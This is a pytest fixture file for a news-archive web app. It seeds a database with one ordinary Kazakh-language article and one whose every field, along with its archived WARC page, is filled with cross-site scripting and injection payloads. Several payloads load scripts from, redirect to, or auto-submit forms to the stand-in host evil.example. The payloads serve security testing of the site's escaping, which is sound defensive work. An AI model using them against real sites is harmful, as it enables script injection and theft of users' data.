"""An archive with an article that was edited and counted, and one in which every text is an attack; both captured."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from archive.article import Agency, Author, Credit, NewsSource, Photo, Unread, WarcPlace
from archive.store import Archive
from archive.warc.members import read_members
from tests.archive.conftest import Press
from tests.archive.warc.warcs import answer, record, write_warc
from tests.browser.chromium import CHROMIUM, Watched, browsing, serving

HOSTILE = (
    "</script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
    '<a href="javascript:alert(4)">x</a>'
    '"\' autofocus onfocus=alert(5) x="<iframe src="data:text/html,<script>alert(6)</script>"></iframe>{{ 7*7 }}'
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/a.css>"
    "<style>@import 'https://evil.example'"
)
HOSTILE_URL = "javascript:alert(7)//https://evil.example/"
_NAME = "el_kz-20230113.warc.gz"


def _hostile_page() -> bytes:
    return (
        f"<html><head><base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>"
        f"<script src='https://evil.example/a.js'></script></head><body onload='alert(8)'><h1>Қар жауды</h1>{HOSTILE}"
        "<form action='https://evil.example/'><input autofocus onfocus='this.form.submit()'></form>"
        "<object data='https://evil.example/o'></object><video src='https://evil.example/v' autoplay></video>"
        "</body></html>"
    ).encode()


@pytest.fixture(scope="package")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """1 was edited and counted, 2 is hostile."""
    press, folder = Press(), tmp_path_factory.mktemp("browser")
    (folder / "warc" / "el_kz").mkdir(parents=True)
    warc = folder / "warc" / "el_kz" / _NAME
    pages = ("<h1>Мектеп ашылды</h1>".encode(), _hostile_page())
    write_warc(
        warc, [record("response", "https://el.kz/", answer(page, "200 OK"), "2023-01-13T13:00:00Z") for page in pages]
    )
    places = [WarcPlace(_NAME, one.offset, getattr(one, "length", 0)) for one in read_members(warc)]
    hostile = press.full(3, "58701")
    with Archive.open(folder / "archive.db") as archive:
        archive.register(Agency("el_kz", "El.kz", "https://el.kz/", "Asia/Almaty"))
        for hour in range(6):
            first = press.full(hour, headline="Ауылда мектеп ашылды", view_count=100 * (hour + 1))
            archive.save([replace(first, capture=replace(first.capture, warc=places[0]))] if not hour else [first])
        archive.save([press.full(24, headline="Ауылда мектеп жабылды", view_count=2400)])
        archive.save(
            [
                replace(
                    hostile,
                    capture=replace(hostile.capture, warc=places[1]),
                    url=HOSTILE_URL,
                    headline=HOSTILE,
                    article_body=(f"«{HOSTILE}», - деді {HOSTILE} Асқар Жұмағалиев.", HOSTILE),
                    description=HOSTILE,
                    article_section=HOSTILE,
                    tags=(HOSTILE,),
                    authors=(Author(HOSTILE, HOSTILE, HOSTILE, HOSTILE),),
                    authors_shown=(HOSTILE,),
                    photos=(
                        Photo(
                            HOSTILE_URL,
                            HOSTILE,
                            HOSTILE,
                            HOSTILE,
                            HOSTILE,
                            "photo",
                            (Credit(HOSTILE, "other"),),
                            HOSTILE_URL,
                        ),
                    ),
                    date_published_shown=HOSTILE,
                    view_count_shown=HOSTILE,
                    attribution_shown=HOSTILE,
                    news_sources=(NewsSource(HOSTILE, "source"),),
                    other_urls=(HOSTILE_URL,),
                    unread=(Unread("views", HOSTILE, HOSTILE),),
                )
            ]
        )
    return folder / "archive.db"


@pytest.fixture(scope="package")
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("chromium is not installed")
    with browsing() as browser:
        yield browser


@pytest.fixture(scope="package")
def site(filled: Path) -> Iterator[str]:
    with serving(filled) as site:
        yield site


@pytest.fixture(params=[1280, 390], ids=["desk", "phone"])
def watched(browser: Browser, site: str, request: pytest.FixtureRequest) -> Iterator[Watched]:
    """A page in English on a wide screen and on a phone's."""
    context = browser.new_context(viewport={"width": request.param, "height": 800}, locale="en")
    try:
        yield Watched(context, site)
    finally:
        context.close()
